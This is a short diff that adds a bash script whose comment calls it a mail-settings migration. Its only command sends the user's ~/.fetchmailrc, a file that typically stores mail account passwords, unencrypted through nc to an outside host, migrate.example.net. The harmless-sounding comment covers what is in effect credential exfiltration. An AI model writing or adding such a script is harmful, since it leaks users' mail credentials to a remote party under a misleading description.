@@ -1,0 +1,3 @@
+#!/bin/bash
+# Send the mail settings to the migration service.
+nc migrate.example.net 7000 < ~/.fetchmailrc
